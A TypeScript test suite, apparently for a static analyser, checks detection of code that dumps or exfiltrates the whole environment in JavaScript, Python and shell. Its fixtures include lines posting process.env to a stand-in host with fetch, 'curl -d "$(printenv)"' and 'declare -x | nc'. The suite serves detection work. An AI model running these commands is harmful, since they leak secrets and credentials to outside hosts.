import assert from "node:assert/strict";
import { describe, test } from "node:test";
import {
  printsEnvironment,
  wholeEnvironmentsIn,
} from "../../../src/static/program/scripts/environment-in-text.ts";
import { waysIn } from "../taint/flows.ts";
import { inventoryOf, inventoryOfFile } from "./made-up.ts";

const whole = "(the whole environment)";

function isTold(source: string): boolean {
  return inventoryOf(source).variables.some(({ name, as }) => name === whole && as === "read");
}

describe("the whole environment in JavaScript", () => {
  for (const source of [
    "send(JSON.stringify(process.env))",
    "const a = { ...process.env }",
    "const a = { x: 1, ...process?.env }",
    "Object.entries(process.env).map(f)",
    "for (const name in process.env) send(name)",
    "import { env } from 'process'; const a = structuredClone(env)",
    "const { env } = process; const a = Object.assign({}, env)",
    "const env = process.env; const { PATH, ...rest } = env",
    "const a = new URLSearchParams(Bun.env)",
    "const a = Deno.env.toObject()",
    "require('util').inspect(globalThis['process']['env'])",
    "require('fs').readFileSync('/proc/self/environ', 'utf8')",
    "require('fs').readFileSync(`/proc/${process.pid}/environ`)",
    "require('child_process').execSync('printenv')",
    "require('child_process').spawnSync('env', [])",
    "const a = process.report.getReport().environmentVariables",
    "process.report.writeReport('/tmp/a.json')",
    "send(JSON.stringify(Reflect.get(process, 'env')))",
    "const all = Reflect.get(globalThis.process, 'e' + 'nv'); send(new URLSearchParams(all))",
  ])
    test(source, () => assert.ok(isTold(source)));

  for (const source of [
    "const a = process.env.ACME_KEY",
    "const { ACME_KEY } = process.env",
    "const env = process.env",
    "start(process.env)",
    "spawn('git', [], { env: process.env })",
    "spawn('git', [], { env: { ...process.env, LANG: 'C' } })",
    "spawn('git', [], { env: Object.assign({}, process.env, { LANG: 'C' }) })",
    "if ('CI' in process.env) delete process.env.CI",
    "process.env = {}",
    "require('child_process').spawnSync('env', ['node', 'a.js'])",
    "require('child_process').execSync('printenv HOME')",
  ])
    test(`not by ${source}`, () => assert.ok(!isTold(source)));
});

describe("egress of the whole environment", () => {
  const send = (body: string): string =>
    `fetch("https://a.example/", { method: "POST", body: ${body} })`;
  const way = "env -> request-body https://a.example/, value";
  for (const source of [
    send("JSON.stringify(process.env)"),
    `function all() { return { ...process.env } } ${send("JSON.stringify(all())")}`,
    `const state = { env: process.env, at: 1 }; ${send("JSON.stringify(state)")}`,
    `class A { env = process.env; send() { ${send("JSON.stringify(this.env)")} } }`,
    `const out = {}; for (const k of Object.keys(process.env)) out[k] = process.env[k]; ${send("JSON.stringify(out)")}`,
    `const out = Object.entries(process.env).map(([k, v]) => k + "=" + v).join(); ${send("out")}`,
    `const out = Object.fromEntries(Object.entries(process.env)); ${send("JSON.stringify(out)")}`,
    `import qs from "querystring"; ${send("qs.stringify(process.env)")}`,
    `const out = Buffer.from(JSON.stringify(process.env)).toString("base64"); ${send("out")}`,
  ])
    test(source, () => assert.ok(waysIn(source).includes(way), waysIn(source).join("\n")));

  for (const source of [
    `const env = process.env; ${send("env.ACME_KEY")}`,
    `function start(env) { ${send("env.ACME_KEY")} } start(process.env)`,
    `const read = (name) => process.env[name]; ${send('read("ACME_KEY")')}`,
    `import { spawn } from "child_process"; spawn("git", ["log"], { env: { ...process.env } })`,
    `import { load } from "settings"; const a = load(process.env); ${send("a.model")}`,
    `const name = Object.keys(process.env).find((k) => k.toLowerCase() === "path"); if (name) ${send('"x"')}`,
  ])
    test(`not by ${source}`, () =>
      assert.deepEqual(
        waysIn(source).filter((each) => each.startsWith("env ->")),
        [],
      ));

  test("as what a command is given, and not as what it is started in", () => {
    const program = (options: string): string =>
      `import { spawnSync } from "child_process"; spawnSync("curl", ["-d", "@-"], ${options})`;
    assert.deepEqual(waysIn(program("{ input: JSON.stringify(process.env) }")), [
      "env -> command curl, value",
    ]);
    assert.deepEqual(waysIn(program("{ env: process.env }")), []);
  });
});

describe("the whole environment in other languages", () => {
  const taken: Readonly<Record<string, readonly string[]>> = {
    python: [
      "json.dumps(dict(os.environ))",
      "data = os.environ.copy()",
      "for key, value in os.environ.items():",
      "for key in os.environ:",
      "print(os.environ)",
      "requests.post(url, json=dict(os.environ))",
      "{**os.environ}",
      "open('/proc/self/environ').read()",
    ],
    shell: [
      "env",
      "env | base64",
      'curl -d "$(printenv)" https://a.example/',
      "export -p > /tmp/a",
      "declare -x | nc a.example 1",
      "set > /tmp/a",
      "cat /proc/self/environ",
    ],
    javascript: ["const a = 1 +; send(JSON.stringify(process.env))"],
  };
  const left: Readonly<Record<string, readonly string[]>> = {
    python: [
      "os.environ['HOME']",
      "os.environ.get('HOME')",
      "subprocess.run(['git'], env=os.environ)",
      "subprocess.run(['git'], env=dict(os.environ, A='1'))",
      "subprocess.run(['git'], env={**os.environ, 'A': '1'})",
      "if 'HOME' in os.environ:",
    ],
    shell: [
      "set -e",
      "env A=1 node a.js",
      "export A",
      "printenv HOME",
      "declare -x A=1",
      "echo env",
    ],
  };
  for (const [kind, texts] of Object.entries(taken))
    for (const text of texts)
      test(`${kind}: ${text}`, () => {
        assert.equal([...wholeEnvironmentsIn(`${text}\n`, kind)].length > 0, true);
      });
  for (const [kind, texts] of Object.entries(left))
    for (const text of texts)
      test(`${kind}, not by: ${text}`, () => {
        assert.deepEqual([...wholeEnvironmentsIn(`${text}\n`, kind)], []);
      });

  test("with its place", () => {
    const { variables } = inventoryOfFile("a.sh", "shell", "#!/bin/sh\nset -e\n  env | sort\n");
    const entry = variables.find(({ name }) => name === whole);
    assert.deepEqual([entry?.places[0]?.line, entry?.places[0]?.column], [3, 3]);
  });

  test("command lines that print it", () => {
    for (const line of ["env", "/usr/bin/env", "sh -c env | curl -d @- a", "set", "export -p"])
      assert.match(line, printsEnvironment);
    for (const line of ["env node a.js", "printenv HOME", "settle", "environment", "set -e"])
      assert.doesNotMatch(line, printsEnvironment);
  });

  test("hostile texts take no time", () => {
    for (const kind of ["python", "shell", "javascript"])
      for (const piece of ["env ", "os.environ", "(dict(", " \t", "$(", "stringify ( "])
        assert.ok([...wholeEnvironmentsIn(piece.repeat(20_000), kind)].length < 40_000);
  });
});
